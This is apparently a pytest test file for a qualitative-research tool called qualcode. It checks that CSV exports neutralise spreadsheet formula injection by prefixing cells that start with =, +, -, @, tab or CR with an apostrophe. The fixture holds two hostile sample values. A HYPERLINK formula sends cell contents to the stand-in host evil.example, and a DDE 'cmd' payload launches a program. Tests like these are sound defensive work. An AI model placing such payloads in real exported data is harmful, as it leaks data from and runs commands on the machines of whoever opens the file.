"""CSV injection (issue 20): no CSV qualcode writes starts a cell or a header with
``= + - @``, tab or CR -- text that Excel would run as a formula gets a leading ``'``."""
from __future__ import annotations

import csv
import io
from pathlib import Path

import pandas as pd
import pytest
from click.testing import CliRunner

from qualcode import Project
from qualcode.cli import cli
from qualcode.csv_safety import safe_frame

EVIL_ROLE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
EVIL_CODE = "@SUM(1+1)"
EVIL_TEXT = "=cmd|' /C calc'!A0 is what the board chair typed."
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def hostile(project: Project, tmp_path: Path) -> Path:
    folder = tmp_path / "src"
    folder.mkdir()
    (folder / "CEO-07 wave 1.txt").write_text(f"Interviewer: What happened?\n\nCEO-07: ok\n\n{EVIL_TEXT}\n", encoding="utf-8")
    (folder / "CEO-08 wave 1.txt").write_text("Interviewer: And you?\n\nCEO-08: +44 is my number.\n", encoding="utf-8")
    project.ingest(folder, progress=False)
    (tmp_path / "people.csv").write_text(f'participant,role\nCEO-07,"{EVIL_ROLE.replace(chr(34), chr(34) * 2)}"\nCEO-08,-CEO\n',
                                         encoding="utf-8")
    project.import_descriptors(tmp_path / "people.csv", key="participant")
    project.add_code(EVIL_CODE)
    project.code("CEO-07 wave 1", EVIL_CODE, quote=EVIL_TEXT, coder="anna")
    project.code("CEO-08 wave 1", EVIL_CODE, quote="+44 is my number.", coder="anna")
    project.close()
    return tmp_path / "study.qcproj"


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


@pytest.mark.parametrize("args", [
    ["excerpts", "--format", "csv"],
    ["descriptors", "show", "--format", "csv"],
    ["stats", "frequencies", "--format", "csv"],
    ["stats", "crosstab", "--by", "role", "--format", "csv"],
    ["quotes", EVIL_CODE, "--field", "role", "--format", "csv"],
])
def test_cli_csv_output_neutralises_formulas(hostile: Path, args: list[str]) -> None:
    result = CliRunner().invoke(cli, ["--project", str(hostile), *args])
    assert result.exit_code == 0, result.output
    values = cells(result.output)
    assert values, result.output
    assert not [v for v in values if v.startswith(DANGEROUS)], result.output
    # the text is still there, shown as text
    assert any(v.startswith("'=") or v.startswith("'@") or v.startswith("'+") for v in values), result.output


@pytest.mark.parametrize("command", [["export", "csv"], ["report", "--out"]], ids=["export csv", "report"])
def test_csv_tables_neutralise_cells_and_wide_headers(hostile: Path, tmp_path: Path, command: list[str]) -> None:
    out = tmp_path / "tables"
    result = CliRunner().invoke(cli, ["--project", str(hostile), *command, str(out)])
    assert result.exit_code == 0, result.output
    found_header = False
    paths = sorted(out.rglob("*.csv"))
    assert len(paths) >= 5, paths
    for path in paths:
        rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"))))
        for cell in (c for row in rows for c in row):
            assert not cell.startswith(DANGEROUS) or _is_number(cell), (path.name, cell)
        found_header |= any(h.startswith("'=HYPERLINK") for h in rows[0]) if rows else False
    assert found_header  # the role value became a (neutralised) column of a wide crosstab


def _is_number(cell: str) -> bool:
    """A negative number (a log ratio, a difference) is a number to a spreadsheet, not a formula."""
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_numbers_are_left_alone() -> None:
    frame = pd.DataFrame({"n": [-3, 4], "x": [-1.5, 2.0], "t": ["-3", "ok"]})
    safe = safe_frame(frame)
    assert safe["n"].tolist() == [-3, 4] and safe["x"].tolist() == [-1.5, 2.0]
    assert safe["t"].tolist() == ["'-3", "ok"]  # text that looks like a number is still text to Excel
